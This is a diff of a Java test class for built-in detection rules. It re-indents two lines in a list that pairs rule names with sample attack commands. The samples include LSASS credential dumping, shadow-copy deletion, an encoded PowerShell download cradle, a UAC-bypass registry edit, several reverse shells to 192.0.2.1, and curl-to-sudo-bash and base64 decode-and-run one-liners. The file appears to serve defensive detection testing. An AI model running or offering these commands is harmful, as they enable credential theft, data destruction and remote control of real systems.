@@ -41,7 +41,7 @@ class BuiltInRulesTest {
                 "win-lsass-dump ¦ rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
                 "win-recovery-off ¦ cmd.exe /c vssadmin.exe delete shadows /all /quiet",
                 "win-encoded-words ¦ powershell -e"
-                    + " KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwB4ACcAKQA=",
+                        + " KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwB4ACcAKQA=",
                 "win-cmd-obfuscated ¦ cmd /c p^o^w^e^r^s^h^e^l^l -nop",
                 "win-system-name ¦ C:\\Users\\Public\\svchost.exe -k netsvcs",
                 "win-uac-registry ¦ reg add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /d cmd.exe /f",
@@ -49,7 +49,7 @@ class BuiltInRulesTest {
                 "lnx-reverse-shell-dev ¦ bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/4444 <&1'",
                 "lnx-reverse-shell-nc ¦ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
                 "lnx-reverse-shell-code ¦ python3 -c 'import"
-                    + " socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
+                        + " socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
                 "lnx-fetch-run ¦ curl -s http://x.example/i.sh | sudo bash",
                 "lnx-decode-run ¦ echo aWQ= | base64 -d | sh",
                 "lnx-obfuscated ¦ cat${IFS}/etc/passwd",
